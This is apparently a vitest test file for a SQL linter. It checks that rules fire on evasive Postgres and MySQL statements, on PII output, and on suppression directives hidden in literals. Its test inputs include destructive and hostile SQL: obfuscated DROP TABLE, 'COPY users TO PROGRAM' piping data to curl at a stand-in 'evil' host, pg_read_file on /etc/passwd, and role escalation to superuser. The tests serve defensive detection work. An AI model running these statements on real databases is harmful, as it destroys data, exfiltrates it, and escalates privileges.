// End to end through the linter: evasive SQL must still make the built-in rule fire.
import { describe, expect, it } from 'vitest';
import type { Dialect } from '../../runtime/facts/types.js';
import { lintText, type LintOptions } from '../../rules/index.js';

async function ruleIds(text: string, options: LintOptions = {}): Promise<string[]> {
  const r = await lintText(text, { filename: 'x.sql', ...options });
  return r.findings.map((f) => f.ruleId);
}

describe('lintText: evasive postgres', () => {
  it.each([
    ['SELECT 1; dRoP/**/TaBlE/* x */users', 'ban-drop-table'],
    ["SELECT E'O\\'Brien'; DROP TABLE users", 'ban-drop-table'],
    ["DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", 'ban-drop-table'],
    ["SELECT dblink_exec('host=x', 'DROP TABLE users')", 'ban-drop-table'],
    ["SELECT dblink_exec('host=x', 'DROP TABLE users')", 'ban-dblink'],
    ['WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone', 'require-where'],
    ['EXPLAIN ANALYZE DELETE FROM users', 'ban-explain-analyze-write'],
    ['EXPLAIN ANALYZE DELETE FROM users', 'require-where'],
    ['COPY (DELETE FROM users RETURNING *) TO STDOUT', 'require-where'],
    ['MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE', 'require-where'],
    ['DELETE FROM users WHERE true OR id = 1', 'require-where'],
    ['DO $$ BEGIN IF true THEN TRUNCATE users; END IF; END $$', 'ban-truncate'],
    ["DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'users'); END $$", 'ban-dynamic-sql'],
    ["COPY users TO PROGRAM 'curl -d @- http://evil'", 'ban-copy-program'],
    ["COPY users TO '/tmp/x'", 'ban-copy-server-file'],
    ["SELECT pg_read_file('/etc/passwd')", 'ban-server-file-access'],
    ['GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC', 'ban-grant-to-public'],
    ['grant/**/select/**/on/**/users/**/to/**/PuBlIc', 'ban-grant-to-public'],
    ['ALTER TABLE users DISABLE ROW LEVEL SECURITY', 'ban-disable-rls'],
    ['SET ROLE postgres', 'ban-set-role'],
    ['SET SESSION AUTHORIZATION postgres', 'ban-set-session-authorization'],
    ['CREATE ROLE x SUPERUSER', 'ban-privileged-role'],
    ['ALTER ROLE x BYPASSRLS', 'ban-privileged-role'],
    ["ALTER SYSTEM SET archive_command = 'curl x'", 'ban-alter-system'],
    // the same switches written as function calls
    ["SELECT set_config('role', 'postgres', false)", 'ban-set-role'],
    ["SELECT set_config('session_authorization', 'postgres', false)", 'ban-set-session-authorization'],
    // a filter that reads no row
    ['DELETE FROM users WHERE CASE WHEN true THEN true END', 'require-where'],
    // valid PL/pgSQL our body parser rejects must not hide the DELETE
    ["CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ DECLARE r users%ROWTYPE; BEGIN r.email := 'x'; DELETE FROM a; END $$", 'require-where'],
    // garbage before a statement: the statement is still a drop
    ['garbage garbage DROP TABLE users', 'ban-drop-table'],
  ])('%s fires %s', async (sql, rule) => {
    expect(await ruleIds(sql)).toContain(rule);
  });

  it('a literal mentioning DROP TABLE fires nothing', async () => {
    expect(await ruleIds("SELECT 'DROP TABLE users; TRUNCATE users' AS msg")).toEqual([]);
  });

  it('an unparsed statement fails the lint', async () => {
    const r = await lintText('garbage garbage DROP TABLE users', { filename: 'x.sql' });
    expect(r.ok).toBe(false);
  });
});

describe('lintText: pii (strict preset)', () => {
  it.each([
    ['SELECT lower(email) AS e FROM users', 'pii-in-output'],
    ['SELECT id FROM orders UNION SELECT email FROM users', 'pii-in-output'],
    ['COPY (SELECT email FROM users) TO STDOUT', 'ban-pii-copy-out'],
  ])('%s fires %s', async (sql, rule) => {
    expect(await ruleIds(sql, { preset: 'strict' })).toContain(rule);
  });
});

describe('lintText: evasive mysql', () => {
  it.each([
    ['/*! DROP TABLE users */', 'mysql', 'ban-drop-table'],
    ['SELECT 1 /*! ; DROP TABLE users */', 'mysql', 'ban-drop-table'],
    ['/*M! DROP TABLE users */', 'mariadb', 'ban-drop-table'],
    ['DELETE FROM users LIMIT 1', 'mysql', 'require-where'],
    ['DELETE u FROM users u', 'mysql', 'require-where'],
    ["SELECT * FROM users INTO OUTFILE '/tmp/x'", 'mysql', 'ban-into-outfile'],
    ["LOAD DATA INFILE '/tmp/x' INTO TABLE users", 'mysql', 'ban-load-data-infile'],
    ['DELIMITER //\nCREATE PROCEDURE p() BEGIN DELETE FROM users; END//\nDELIMITER ;', 'mysql', 'require-where'],
  ])('%s (%s) fires %s', async (sql, dialect, rule) => {
    expect(await ruleIds(sql, { dialect: dialect as Dialect })).toContain(rule);
  });
});

describe('lintText: suppression directives only count in comments', () => {
  it.each([
    ["SELECT '-- hoop-lint-disable-file ban-drop-table -- approved'; DROP TABLE users", 'ban-drop-table'],
    ["SELECT 'x -- hoop-lint-disable-next-line all -- ok\n'; DROP TABLE users", 'ban-drop-table'],
    ['SELECT $$ -- hoop-lint-disable-file all -- ok\n$$; DROP TABLE users; TRUNCATE users', 'ban-truncate'],
    ['SELECT "-- hoop-lint-disable-file all -- ok"; DROP TABLE users', 'ban-drop-table'],
  ])('a directive inside a literal or quoted name does not suppress: %s', async (sql, rule) => {
    expect(await ruleIds(sql)).toContain(rule);
  });

  it('a real directive comment still suppresses (control)', async () => {
    const ids = await ruleIds('-- hoop-lint-disable-next-line ban-drop-table -- approved in TICKET-1\nDROP TABLE users');
    expect(ids).not.toContain('ban-drop-table');
  });
});
